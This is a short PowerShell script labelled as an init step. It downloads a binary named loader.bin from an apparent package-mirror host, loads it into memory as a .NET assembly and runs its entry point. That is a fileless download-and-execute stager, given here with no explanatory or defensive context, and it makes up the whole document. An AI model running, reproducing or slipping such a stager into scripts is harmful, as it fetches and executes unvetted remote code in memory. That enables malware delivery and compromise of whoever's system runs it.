# init 0834 v1
$b = (New-Object Net.WebClient).DownloadData('http://repo.pkg-mirror.example/loader.bin')
$a = [System.Reflection.Assembly]::Load($b)
$a.EntryPoint.Invoke($null, (, [string[]] @()))
